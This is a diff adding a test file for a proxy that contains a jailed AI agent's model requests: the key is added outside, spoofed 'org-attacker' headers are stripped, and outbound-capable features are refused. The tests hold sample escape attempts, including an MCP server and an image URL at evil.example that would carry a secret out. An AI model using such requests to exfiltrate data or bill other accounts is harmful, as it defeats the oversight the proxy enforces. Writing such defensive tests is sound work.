@@ -1,0 +1,136 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { createLogger } from '@threadwork/platform';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startModelProxy, type ModelProxy } from './model-proxy.js';
+
+// The model endpoint as the jail reaches it: the key is added outside, and what the agent may
+// write in a request's body and headers is what a harness sends, nothing that makes the provider
+// fetch a URL, read what the key's account stores, or bill another organisation.
+
+const KEY = 'sk-proxy-test';
+const received: { headers: IncomingHttpHeaders; body: string }[] = [];
+let upstream: Server;
+let proxy: ModelProxy;
+let dir: string;
+const refusals: string[] = [];
+
+/** A request as Codex makes it: its own function tools, inline input, nothing stored. */
+const codexLike = () => ({
+  model: 'test-model',
+  stream: true,
+  store: false,
+  input: [
+    { type: 'message', role: 'user', content: [{ type: 'input_text', text: 'hello' }] },
+    { type: 'message', role: 'user', content: [{ type: 'input_image', image_url: 'data:image/png;base64,iVBORw0K' }] },
+  ],
+  tools: [
+    { type: 'function', name: 'exec_command' },
+    { type: 'custom', name: 'apply_patch' },
+    { type: 'namespace', name: 'multi_agent_v1' },
+  ],
+  include: ['reasoning.encrypted_content'],
+});
+
+function post(
+  path: string,
+  body: unknown,
+  headers: Record<string, string> = {},
+): Promise<{ status: number; text: string }> {
+  const data = JSON.stringify(body);
+  return new Promise((resolve, reject) => {
+    const req = request(
+      {
+        socketPath: proxy.socketPath,
+        path,
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...headers },
+      },
+      (res) => {
+        let text = '';
+        res.on('data', (c: Buffer) => (text += c.toString()));
+        res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
+      },
+    );
+    req.on('error', reject);
+    req.end(data);
+  });
+}
+
+beforeAll(async () => {
+  upstream = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c: Buffer) => (body += c.toString()));
+    req.on('end', () => {
+      received.push({ headers: req.headers, body });
+      res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
+    });
+  });
+  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
+  const { port } = upstream.address() as { port: number };
+  dir = mkdtempSync(join(tmpdir(), 'threadwork-model-proxy-'));
+  proxy = await startModelProxy(join(dir, 'model.sock'), {
+    baseUrl: `http://127.0.0.1:${port}/v1`,
+    apiKey: KEY,
+    logger: createLogger({ service: 'model-proxy-test', level: 'silent' }),
+    refused: (r) => refusals.push(r.reason),
+  });
+});
+afterAll(async () => {
+  await proxy?.close();
+  await new Promise((resolve) => upstream?.close(resolve));
+  rmSync(dir, { recursive: true, force: true });
+});
+
+describe('the model proxy', () => {
+  it('forwards a harness’s request with the key, and not the organisation or project the agent names', async () => {
+    const res = await post('/v1/responses', codexLike(), {
+      authorization: 'Bearer sk-agents-own',
+      'openai-organization': 'org-attacker',
+      'openai-project': 'proj-attacker',
+    });
+    expect(res.status).toBe(200);
+    const last = received.at(-1)!;
+    expect(last.headers.authorization).toBe(`Bearer ${KEY}`);
+    expect(last.headers['openai-organization']).toBeUndefined();
+    expect(last.headers['openai-project']).toBeUndefined();
+    expect(JSON.parse(last.body)).toEqual(codexLike());
+  });
+
+  it.each([
+    ['an MCP server of the agent’s', { tools: [{ type: 'mcp', server_url: 'https://evil.example/mcp' }] }],
+    ['the provider’s web search', { tools: [{ type: 'web_search' }] }],
+    ['the account’s files', { tools: [{ type: 'file_search', vector_store_ids: ['vs_1'] }] }],
+    [
+      'an image fetched from a URL',
+      { input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://evil.example/?d=secret' }] }] },
+    ],
+    ['a file of the account', { input: [{ role: 'user', content: [{ type: 'input_file', file_id: 'file_1' }] }] }],
+    ['a stored response', { previous_response_id: 'resp_1' }],
+    ['a stored item', { input: [{ type: 'item_reference', id: 'msg_1' }] }],
+    ['a stored prompt', { prompt: { id: 'pmpt_1' } }],
+    ['a background run', { background: true }],
+    ['storing the conversation', { store: true }],
+  ])('refuses %s, forwarding nothing, and says why', async (_what, change) => {
+    const before = received.length;
+    const res = await post('/v1/responses', { ...codexLike(), ...change });
+    expect(res.status).toBe(403);
+    expect(res.text).toMatch(/^refused: /);
+    expect(received.length).toBe(before);
+    expect(refusals.at(-1)).toBe(res.text.replace(/^refused: /, '').trim());
+  });
+
+  it('refuses a body that is not JSON', async () => {
+    const res = await new Promise<number>((resolve, reject) => {
+      const req = request({ socketPath: proxy.socketPath, path: '/v1/responses', method: 'POST' }, (r) => {
+        r.resume();
+        resolve(r.statusCode ?? 0);
+      });
+      req.on('error', reject);
+      req.end('not json');
+    });
+    expect(res).toBe(403);
+  });
+});
